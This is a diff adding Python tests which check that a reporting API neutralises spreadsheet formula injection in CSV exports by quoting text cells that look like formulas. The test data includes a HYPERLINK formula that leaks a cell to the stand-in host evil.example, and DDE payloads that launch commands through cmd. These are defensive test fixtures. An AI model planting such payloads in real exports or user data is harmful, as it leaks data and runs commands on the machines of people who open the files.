@@ -308,3 +308,60 @@ def test_reports_need_the_reports_scope(client, make_key) -> None:  # type: igno
     denied = client.get("/v1/reports/compliance", headers=other)
     assert denied.status_code == 403
     assert denied.json()["required_scope"] == "reports:read"
+
+
+FORMULAS = {
+    "formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your report")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(  # type: ignore[no-untyped-def]
+    client, seeded, reader, make_key
+) -> None:
+    """A completions:write client writes learner attributes and names; a reports:read user opens
+    the CSV in a spreadsheet. Text cells starting like a formula get a leading quote (OWASP);
+    numbers, negative ones included, stay numbers."""
+    writer = {"Authorization": f"Bearer {make_key('completions:write', name='lms')}"}
+    for learner_id, value in FORMULAS.items():
+        response = client.put(
+            f"/v1/learners/{learner_id}",
+            json={
+                "name": value,
+                "attributes": {"department": value, "role": "marketing"},
+                "attributes_effective_at": (seeded.now - 100 * DAY).isoformat(),
+            },
+            headers=writer,
+        )
+        assert response.status_code in (200, 201), response.text
+    csv_headers = {**reader, "Accept": "text/csv"}
+    certification = _csv(
+        client.get("/v1/reports/certification?group_by=department", headers=csv_headers)
+    )
+    rate = _csv(client.get("/v1/reports/completion-rate?group_by=department", headers=csv_headers))
+    overdue = _csv(client.get("/v1/reports/compliance/overdue", headers=csv_headers))
+    for rows in (certification, rate):
+        groups = {row["group"] for row in rows}
+        for value in FORMULAS.values():
+            assert "'" + value in groups, (value, groups)
+            assert value not in groups
+        assert "sales" in groups  # ordinary text untouched
+    names = {row["name"] for row in overdue}  # marketing for 100 days, mandate P30D: overdue
+    assert names == {"Bob"} | {"'" + value for value in FORMULAS.values()}
+    for row in certification:
+        assert row["learners"].isdigit() and row["holders"].isdigit()
+        float(row["share"])  # unquoted numbers
+    as_json = client.get("/v1/reports/certification?group_by=department", headers=reader).json()
+    assert FORMULAS["formula"] in {group["group"] for group in as_json["groups"]}  # JSON as is
+
+
+def test_only_text_cells_are_neutralised() -> None:
+    from service.reports.rows import to_csv
+
+    table = (["group", "delta", "share"], [["-5", -5, -0.25], ["=1", 3, 0.5]])
+    lines = to_csv(table).splitlines()
+    assert lines[1:] == ["'-5,-5,-0.25", "'=1,3,0.5"]
